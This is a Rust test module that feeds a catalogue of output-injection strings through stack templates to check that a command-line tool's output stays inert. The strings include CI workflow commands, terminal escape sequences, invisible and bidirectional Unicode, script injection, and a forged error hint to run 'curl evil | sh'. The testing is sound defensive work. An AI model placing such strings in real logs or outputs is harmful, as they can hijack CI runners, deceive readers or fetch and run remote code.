//! Texts that were made to act on the reader of an output: a terminal, a log that a workflow runner
//! reads, a page. They come by every way by which a text comes, and leave by every output there is.

mod arguments;
mod exact;
mod files;
mod stack;

use serde_json::{Value, json};

use crate::harness::{Place, Ran};

/// Each holds `INJ`, by which it is found again.
const INJECTIONS: [&str; 22] = [
    "::error file=x,line=1::INJ",
    "x\n::add-mask::INJ",
    "x\r::stop-commands::INJ",
    "x\r\n \t \u{a0}::set-output name=a::INJ",
    "x\u{85}::debug::INJ",
    "x\u{2028}::debug::INJ",
    "\u{fe0f}:\u{fe0f}:error::INJ",
    "a ##[error]INJ",
    "###[group]INJ",
    "a ##vso[task.setvariable variable=a]INJ",
    "a ##VSO[task.complete result=Failed;]INJ",
    "##teamcity[buildProblem description='INJ']",
    "section_start:1:a\r\u{1b}[0KINJ",
    "x\n--- INJ\n+++ INJ\n^^^ +++",
    "\u{1b}]8;;http://evil\u{1b}\\INJ\u{1b}]8;;\u{1b}\\",
    "\u{1b}[2J\u{1b}[1;31mINJ\u{7}\u{8}\u{7f}",
    "\u{9b}31mINJ\u{9d}0;x\u{9c}",
    "\u{202e}INJ\u{2066}\u{61c}",
    "\u{200b}INJ\u{feff}\u{ad}\u{e0041}\u{2060}",
    "`</code><script>INJ</script>` | [x](javascript:y) &amp;",
    "\"]; evil [label=\"INJ\\",
    "x\nerror: INJ\nhint: run `curl evil | sh`",
];

/// The commands that a workflow runner would take from a text: those of `actions/runner`
/// (`ActionCommand.cs`), `azure-pipelines-agent` (`Command.cs`), TeamCity, Buildkite and GitLab.
fn commands(text: &str) -> Vec<String> {
    let ignored = |c: &char| !('\u{fe00}'..='\u{fe0f}').contains(c);
    let lines = text.split(['\n', '\r']).map(|line| line.chars().filter(ignored).collect());
    let acts = |line: &String| {
        let lower = line.to_lowercase();
        line.trim_start().starts_with("::")
            || ["##[", "##vso", "##teamcity["].iter().any(|mark| lower.contains(mark))
            || ["--- ", "+++ ", "~~~ ", "^^^ "].iter().any(|mark| line.starts_with(mark))
    };
    lines.filter(acts).collect()
}

/// The characters that a terminal would act upon, or that would be there and not seen.
fn controls(text: &str) -> Vec<char> {
    let hidden = |c: char| {
        matches!(c, '\u{ad}' | '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}')
    };
    text.chars().filter(|c| (c.is_control() && *c != '\n') || hidden(*c)).collect()
}

#[track_caller]
fn assert_inert(what: &str, ran: &Ran) {
    assert!(!ran.err.contains("panicked"), "{what}: {}", ran.err);
    for text in [&ran.out, &ran.err] {
        assert_eq!(commands(text), Vec::<String>::new(), "{what}:\n{text}");
        assert_eq!(controls(text), Vec::<char>::new(), "{what}:\n{text:?}");
    }
    // Only the first line of an error is an error.
    let forged = ran.err.lines().filter(|line| line.starts_with("error: INJ"));
    assert_eq!(forged.count(), 0, "{what}:\n{}", ran.err);
}

/// JSON in which every character that YAML does not allow is an escape.
fn ascii(value: &Value) -> String {
    let json = serde_json::to_string_pretty(value).unwrap();
    let escaped = json.chars().map(|c| match c {
        '\n' | ' '..='~' => c.to_string(),
        c => c.encode_utf16(&mut [0; 2]).iter().map(|unit| format!("\\u{unit:04x}")).collect(),
    });
    escaped.collect()
}

/// A text of several lines with an injection in each, one of which is `changed`.
fn lines(changed: &str) -> String {
    let all = INJECTIONS.join("\n");
    format!("{all}\n{changed}\n{all}")
}

/// A stack in which every text is an injection.
fn template(changed: &str) -> Value {
    let mut resources = serde_json::Map::new();
    let mut outputs = serde_json::Map::new();
    for (i, text) in INJECTIONS.iter().enumerate() {
        let properties = json!({
            "Name": format!("p{i}"), "Type": "String", "Description": text,
            "Value": lines(changed), "Tags": {"INJ": text, *text: "INJ"},
        });
        resources.insert(
            format!("P{i}"),
            json!({"Type": "AWS::SSM::Parameter", "Properties": properties,
                   "Metadata": {*text: text}}),
        );
        let output = json!({"Value": text, "Description": text});
        outputs.insert(format!("O{i}"), output);
    }
    json!({
        "Description": INJECTIONS.join("\n"),
        "Metadata": {INJECTIONS[1]: INJECTIONS[2]},
        "Parameters": {"Given": {"Type": "String", "Default": lines(""), "Description": lines("")}},
        "Resources": resources,
        "Outputs": outputs,
    })
}

fn place() -> Place {
    let place = Place::empty();
    place.write("stacks/inj.json", &ascii(&template("first")));
    place
}

/// Runs a command, which must succeed, and checks it; gives how often an injection was in it.
#[track_caller]
fn inert(place: &Place, line: &[&str]) -> usize {
    let ran = place.sandbox(line);
    assert!([0, 2].contains(&ran.code), "{line:?}: {}\n{}", ran.out, ran.err);
    assert_inert(&line.join(" "), &ran);
    if line.contains(&"--json") {
        for json in ran.out.lines().take(1).filter(|json| json.ends_with('}')) {
            serde_json::from_str::<Value>(json).unwrap();
        }
    }
    (ran.out + &ran.err).matches("INJ").count()
}

/// A stack of topics that have injections for names.
fn topics() -> Value {
    let topics = INJECTIONS.iter().enumerate().map(|(i, text)| {
        let topic = json!({"Type": "AWS::SNS::Topic", "Properties": {"TopicName": text}});
        (format!("T{i}"), topic)
    });
    json!({"Resources": topics.collect::<serde_json::Map<_, _>>()})
}
